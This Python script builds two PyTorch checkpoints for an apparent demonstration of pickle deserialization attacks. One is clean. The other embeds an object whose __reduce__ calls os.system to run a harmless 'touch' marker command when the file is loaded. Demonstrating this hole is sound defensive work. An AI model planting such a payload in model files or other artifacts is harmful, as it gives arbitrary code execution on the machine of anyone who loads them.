"""Writes the two checkpoints of the demo: make_checkpoints.py DIRECTORY MARKER

honest.pt holds weights and an optimizer's state. poisoned.pt holds the same and one object more,
which runs `touch MARKER` when it is unpickled: harmless, and as much code as any attack needs.
"""
import os
import sys
from pathlib import Path

import torch

from train import make_net


class Payload:
    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


def main():
    directory, marker = Path(sys.argv[1]), sys.argv[2]
    torch.manual_seed(0)
    net = make_net()
    optimizer = torch.optim.SGD(net.parameters(), lr=0.1, momentum=0.9)
    checkpoint = {"step": 100, "net": net.state_dict(), "optimizer": optimizer.state_dict()}
    torch.save(checkpoint, directory / "honest.pt")
    torch.save({**checkpoint, "extra": Payload(f"touch {marker}")}, directory / "poisoned.pt")


if __name__ == "__main__":
    main()
